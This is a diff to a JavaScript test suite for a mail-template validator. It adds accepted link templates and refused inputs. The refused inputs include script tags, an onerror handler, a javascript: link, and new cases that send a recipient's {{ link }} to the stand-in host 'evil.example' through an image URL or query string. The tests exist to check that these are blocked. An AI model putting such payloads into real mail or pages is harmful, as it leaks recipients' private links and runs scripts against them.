@@ -27,6 +27,7 @@ describe('a mail is saved', () => {
       '{% if message and first_name != "x" %}{{ message }}{% else %}-{% endif %}',
     ],
     ['with filters and their options', `{{ first_name | default: 'you' | truncate: 20, "…" }}`],
+    ['with a link', `<a class="button" href="{{ link }}">{{ link }}</a><a href='{{link}}'>x</a>`],
     ['with words that only look like names', '<p class="button">first name, salary</p>'],
   ])('%s', async (_, body) => {
     expect((await save(body)).rowCount).toBe(1);
@@ -43,6 +44,13 @@ describe('a mail is refused', () => {
     ['that assigns', '{%- assign x = 1 -%}', /conditions only/],
     ['that holds a script', '<script>alert(1)</script>', /cannot hold scripts/],
     ['that holds a handler', '<img src="x" onerror="alert(1)">', /cannot hold scripts/],
+    [
+      'that sends a link to another host',
+      '<img src="https://evil.example/p?{{ link }}">',
+      /stands by itself/,
+    ],
+    ['that lengthens a URL', '<p>https://evil.example/?{{link}}</p>', /stands by itself/],
+    ['that changes a link', '{{ link | prepend: "x" }}', /stands by itself/],
     ['that leads into code', '<a href="javascript:alert(1)">x</a>', /cannot hold scripts/],
   ])('%s', async (_, body, message) => {
     await expect(save(body)).rejects.toThrow(message);
